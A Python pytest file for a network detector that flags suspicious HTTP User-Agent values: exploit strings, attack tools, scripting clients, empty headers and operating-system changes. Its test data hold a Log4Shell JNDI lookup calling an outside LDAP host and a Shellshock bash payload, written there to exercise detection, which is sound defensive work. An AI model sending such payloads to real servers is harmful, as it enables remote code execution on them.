"""suspicious_user_agent: literal exploit strings, tools, scripting clients on workstations and servers,
empty headers and operating-system changes; the golden Slips test14; the benign controls, for all five
attack-chain detections of issue 16."""

import pytest
from detkit import BROWSER_UA, analyze_capture, assert_golden, http_req, run

from abfluss.detections.suspicious_user_agent import Settings as UASettings
from conftest import EXAMPLES
from test_det_executable_download import CHAIN

MEDIUM_OR_MORE = ("medium", "high", "critical")


def positive_tables():
    return {"http": [http_req(1, ua="${jndi:ldap://203.0.113.9:1389/a}")]}


def test_log4shell_and_attack_tools_from_any_host():
    http = [http_req(1, ua="${jndi:ldap://203.0.113.9:1389/a}"), http_req(2, ua="sqlmap/1.7 (https://sqlmap.org)"),
            http_req(3, ua="() { :; }; /bin/bash -c id", orig_h="10.0.0.6")]
    fs = run("suspicious_user_agent", http=http)
    assert [(f.key, f.severity) for f in fs] == [
        (("10.0.0.5", "attack_tool", "*"), "medium"), (("10.0.0.5", "injection", "*"), "medium"),
        (("10.0.0.6", "injection", "*"), "medium")]
    assert fs[1].attack == ["T1190"] and fs[1].metrics["user_agents"] == ["${jndi:ldap://203.0.113.9:1389/a}"]


def test_scripting_clients_count_on_workstations_only():
    browsing = [http_req(i) for i in range(10)]
    curl = [http_req(20 + i, ua="curl/8.5.0", resp_h=f"203.0.113.{90 + i}") for i in range(3)]
    (f,) = run("suspicious_user_agent", http=browsing + curl)
    assert f.key == ("10.0.0.5", "scripting", "*") and f.severity == "low" and f.metrics["browser_requests"] == 10
    server = [dict(r, orig_h="10.0.0.50") for r in curl]  # a server fetching with curl: normal
    missing = [http_req(40 + i, ua=None) for i in range(20)]  # no User-Agent header at all: not reported
    assert run("suspicious_user_agent", http=server + missing) == []
    empty = [http_req(60 + i, ua="") for i in range(2)]
    assert [f.key[1] for f in run("suspicious_user_agent", http=browsing + empty)] == ["empty"]
    assert run("suspicious_user_agent", settings=UASettings(kinds=("injection",)), http=browsing + curl) == []


def test_user_agent_operating_system_changes():
    mac = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 Safari/605.1.15"
    linux = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
    http = [http_req(i, ua=[BROWSER_UA, mac, linux][i % 3]) for i in range(12)]
    (f,) = run("suspicious_user_agent", http=http)
    assert f.key == ("10.0.0.5", "os_change", "*") and f.metrics["operating_systems"] == {
        "linux": 4, "macos": 4, "windows": 4}
    one_odd = [http_req(i) for i in range(10)] + [http_req(20, ua=mac)]  # a link preview, once
    assert run("suspicious_user_agent", http=one_odd) == []



def test_golden_slips_test14(tmp_path_factory):
    # the Log4Shell lookup in a User-Agent; Wget beside the host's MSIE and Chrome
    fs = analyze_capture("slips/test14-malicious-zeek", tmp_path_factory.mktemp("ua"), only=("suspicious_user_agent",))
    assert [(f.key, f.severity, f.metrics["user_agents"]) for f in fs] == [
        (("10.0.2.15", "injection", "*"), "medium", ["${jndi:ldap://xyz.xyz.com:39356/a}"]),
        (("10.0.2.15", "scripting", "*"), "low", ["Wget/1.21.2"])]
    assert_golden("suspicious_user_agent-slips-test14", fs)


@pytest.mark.parametrize("rel", ["rita/open_conns", str(EXAMPLES / "demo.pcap"), str(EXAMPLES / "lab-beacon.pcap"),
                                 str(EXAMPLES / "lab-https-upload.pcap")])
def test_benign_controls_give_nothing_of_medium_or_more(rel, tmp_path_factory):
    fs = analyze_capture(rel, tmp_path_factory.mktemp("benign"), only=CHAIN)
    assert [f for f in fs if f.severity in MEDIUM_OR_MORE] == []
    # rita's open_conns: one workstation ran PowerShell's web client twice beside its browser
    assert [f.key for f in fs] == ([("10.55.100.100", "scripting", "*")] if rel == "rita/open_conns" else [])
